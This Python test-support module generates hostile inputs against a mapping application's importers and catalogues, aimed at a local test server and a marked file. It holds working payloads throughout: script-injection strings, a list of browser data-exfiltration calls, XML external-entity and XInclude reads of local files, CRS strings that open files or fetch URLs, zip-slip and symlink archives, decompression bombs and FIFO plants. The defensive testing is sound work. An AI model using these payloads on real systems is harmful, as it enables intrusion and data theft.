"""The hostile inputs, made by code: each a file to import, or a change of a sound catalogue.

What they try to reach is the test's own: a file with a mark in its text, and a server on this machine that counts.
"""

from __future__ import annotations

import json
import os
import stat
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path
from typing import Any

from tests.support import import_files as files
from tests.support.catalogue_fixture import documents, write


@dataclass(frozen=True)
class Target:
    """What an input tries to reach: a file that holds ``mark``, in a folder, and the address of a server."""

    folder: Path
    mark: str
    url: str

    @property
    def secret(self) -> Path:
        """The file."""
        return self.folder / "secret.csv"


def texts(at: Target) -> tuple[str, ...]:
    """Texts that would run, load or open something where a text is taken for more than one."""
    script = "window.attacked = (window.attacked || 0) + 1; fetch('" + at.url + "')"
    return (
        f"<script>{script}</script>",
        f'<img src="{at.url}/img" onerror="{script}">',
        f"</script><script>{script}</script>",
        f'<svg/onload="{script}">',
        f"![]({at.url}/markdown) [a](javascript:{script})",
        f'"><iframe src="{at.url}/frame"></iframe>',
        f"{{{{constructor.constructor('{script}')()}}}}{{% include '{at.secret}' %}}",
        f'=HYPERLINK("{at.url}")',
        f"<![CDATA[<script>{script}</script>]]>",
        f"'-{script}-'",
        f"\\u2028{script}//",
        f"<style>@import '{at.url}/css'</style>",
        f"<!--<script>{script}",
    )


def systems(at: Target) -> tuple[str, ...]:
    """Reference systems that would open a file or ask a server, or that are none."""
    return (
        f"+init={at.secret}:x",
        "+init=/dev/stdin:x",
        f"+proj=longlat +nadgrids=@{at.secret}",
        f"+proj=pipeline +step +proj=vgridshift +grids={at.url}/a.tif",
        f'GEOGCS["x",DATUM["x",SPHEROID["x",6378137,298],EXTENSION["PROJ4_GRIDS","{at.secret}"]]]',
        json.dumps({"type": "BoundCRS", "source_crs": {"type": "file", "name": str(at.secret)}}),
        "nonsense",
        "EPSG:0",
        "EPSG:" + "9" * 200,
        "{" * 500,
        at.url,
    )


#: What a script that somebody got into a map would try, to tell the server "AT" something. Each is tried by itself.
WAYS_OUT = (
    "fetch('AT/fetch', {mode: 'no-cors'}).catch(() => 0)",
    "const x = new XMLHttpRequest(); x.open('GET', 'AT/xhr'); x.send()",
    "navigator.sendBeacon('AT/beacon', 'a')",
    "new WebSocket('AT/socket'.replace('http', 'ws'))",
    "new EventSource('AT/events')",
    "new Image().src = 'AT/image'",
    "const s = document.createElement('script'); s.src = 'AT/script'; document.head.append(s)",
    "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'AT/style'; document.head.append(l)",
    "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'AT/prefetch'; document.head.append(l)",
    "document.body.style.backgroundImage = 'url(AT/background)'",
    "new FontFace('a', 'url(AT/font)').load().catch(() => 0)",
    "const v = document.createElement('video'); v.src = 'AT/video'; document.body.append(v)",
    "const o = document.createElement('object'); o.data = 'AT/object'; document.body.append(o)",
    "const f = document.createElement('iframe'); f.src = 'AT/frame'; document.body.append(f)",
    "new Worker(URL.createObjectURL(new Blob([`fetch('AT/worker')`])))",
    "import('AT/module').catch(() => 0)",
    "const f = document.createElement('form'); f.action = 'AT/form'; document.body.append(f); f.submit()",
    "const a = document.createElement('a'); a.href = 'AT/ping'; a.ping = 'AT/ping'; document.body.append(a); a.click()",
    "window.open('AT/open')",
    "window.top.location = 'AT/top'",
    "window.parent.document.title = 'AT'",
    "const c = new RTCPeerConnection({iceServers: [{urls: 'stun:HOST'}]}); c.createDataChannel('a'); "
    "c.createOffer().then((offer) => c.setLocalDescription(offer))",
    "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=AT/refresh'; "
    "document.head.append(m)",
    # The last one: where it succeeds, the map is gone.
    "location.href = 'AT/self'",
)


def imports(at: Target, large: bool) -> Iterator[tuple[str, bytes]]:
    """Files to import: their name and content."""
    for i, text in enumerate(texts(at)):
        row = files.feature("POINT (36 51)", **{"name": text, text[:80]: text, "date": "2025-02-07"})
        yield f"text{i}.geojson", files.collection(row, name=text)
        yield f"text{i}.csv", f'name,lon,lat\n"{text.replace(chr(34), chr(34) * 2)}",36,51\n'.encode()
        if i < 3:
            content = text.replace("&", "&amp;").replace("<", "&lt;")
            point = "<Point><coordinates>36,51</coordinates></Point>"
            yield f"text{i}.kml", f"<kml><Placemark><name>{content}</name>{point}</Placemark></kml>".encode()
            yield f"text{i}.xlsx", files.workbook([["name", "lon", "lat"], [text, 36, 51]])
    for i, system in enumerate(systems(at)):
        named = {"type": "name", "properties": {"name": system}}
        yield f"system{i}.geojson", files.collection(files.feature("POINT (1 2)", a=1), crs=named)
        geo = {"version": "1.0.0", "primary_column": "geometry"}
        column = {"encoding": "WKB", "geometry_types": [], "crs": system}
        yield f"system{i}.parquet", files.geoparquet(json.dumps({**geo, "columns": {"geometry": column}}))
    entity = f'<!DOCTYPE kml [<!ENTITY x SYSTEM "file://{at.secret}"><!ENTITY % y SYSTEM "{at.url}/dtd">%y;]>'
    yield "entity.kml", f"{entity}<kml><Placemark><name>&x;</name></Placemark></kml>".encode()
    yield "entity16.kml", f"{entity}<kml><Placemark><name>&x;</name></Placemark></kml>".encode("utf-16")
    link = f"<NetworkLink><Link><href>{at.url}/link</href></Link></NetworkLink>"
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{at.secret}" parse="text"/>'
    yield "link.kml", f"<kml><Document>{link}<Placemark><name>{include}</name></Placemark></Document></kml>".encode()
    yield "virtual.vrt", f'<OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource>{at.secret}</SrcDataSource>'.encode()
    slip = BytesIO()
    with zipfile.ZipFile(slip, "w") as archive:
        archive.writestr("../" * 12 + str(at.folder / "slipped.shp").lstrip("/"), b"x")
        linked = zipfile.ZipInfo("doc.kml")
        linked.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(linked, str(at.secret))
    yield "slip.zip", slip.getvalue()
    yield "slip.kmz", slip.getvalue()
    yield "bomb.kmz", files.archive(**{"doc.kml": b"<kml>" + b" " * 2**24 + b"</kml>"})
    yield "deep.geojson", b'{"a":' * 5_000 + b"1" + b"}" * 5_000
    yield "unseen.geojson", files.collection(files.feature("POINT (36 51)", name="a\ufeff\u202eb\U0010ffff"))
    yield "moving.gif", b"GIF89a\1\0\1\0\0\0\0;" + texts(at)[0].encode()
    yield "moving.mp4", b"\0\0\0\x18ftypisom\0\0\2\0isomiso2" + b"\0\0\0\1moov" + b"\xff" * 200
    yield "moving.csv", b"GIF89a/*\n" + texts(at)[0].encode() + b"\n*/=1,2\n"
    yield "nothing.csv", b""
    yield "zeros.gpkg", b"SQLite format 3\0" + bytes(4_000)
    if large:
        yield "list.geojson", b"[" + b"0," * 20_000_000 + b"0]"
        yield "names.geojson", b"{" + b",".join(b'"%d":0' % i for i in range(4_000_000)) + b"}"
        yield "brackets.geojson", b"[" * 30_000_000
        yield "wide.csv", b",".join(b"c%d" % i for i in range(500_000)) + b"\n"
        yield "line.csv", b"a" * 60_000_000


def catalogues(at: Target, folder: Path, large: bool) -> Iterator[Path]:
    """Catalogues to validate, export and add to, each in a folder of its own."""
    for i, text in enumerate(texts(at)):
        docs = documents()
        for document in docs.values():
            _put(document, text)
        yield write(_new(folder, f"text{i}"), docs)
    for name, plant in _PLANTS.items():
        made = write(_new(folder, name), documents())
        plant(made, at)
        yield made
    if large:
        made = write(_new(folder, "list"), documents())
        (made / "claimants.json").write_bytes(b"[" + b"0," * 3_000_000 + b"0]")
        yield made
        made = write(_new(folder, "names"), documents())
        (made / "sources.json").write_bytes(b"[{" + b",".join(b'"%d":0' % i for i in range(5_000_000)) + b"}]")
        yield made


def _new(folder: Path, name: str) -> Path:
    (folder / name).mkdir(parents=True)
    return folder / name


#: The texts that may be anything.
_FREE = frozenset(
    {"name", "title", "name_native", "notes", "publisher", "holder", "description", "subtitle", "seed_text"}
)


def _put(value: Any, text: str) -> None:
    """Put a text in the place of every text that may be anything."""
    for item in value.values() if isinstance(value, dict) else value:
        if isinstance(item, dict | list):
            _put(item, text)
    if isinstance(value, dict):
        value |= {name: text for name, was in value.items() if name in _FREE and isinstance(was, str)}


def _link(name: str) -> Callable[[Path, Target], None]:
    def plant(folder: Path, at: Target) -> None:
        (folder / name).unlink(missing_ok=True)
        (folder / name).symlink_to(at.secret)

    return plant


def _staging(folder: Path, at: Target) -> None:
    (folder / ".adding").mkdir()
    (folder / ".adding" / "before").symlink_to(at.folder)


def _pipe(folder: Path, at: Target) -> None:
    (folder / ".adding" / "marks").mkdir(parents=True)
    os.mkfifo(folder / ".adding" / "marks" / "events.geojson")
    os.mkfifo(folder / "sources.json.pipe")
    (folder / "sources.json").unlink()
    (folder / "sources.json.pipe").rename(folder / "sources.json")


def _outside(folder: Path, at: Target) -> None:
    catalog = json.loads((folder / "catalog.json").read_text(encoding="utf-8"))
    catalog["layers"][0]["file"] = os.path.relpath(at.secret, folder)
    (folder / "catalog.json").write_text(json.dumps(catalog))


_PLANTS: dict[str, Callable[[Path, Target], None]] = {
    "linked catalogue": _link("catalog.json"),
    "linked layer": _link("events.geojson"),
    "linked sources": _link("sources.json"),
    "linked staging": _staging,
    "pipes": _pipe,
    "file outside": _outside,
}
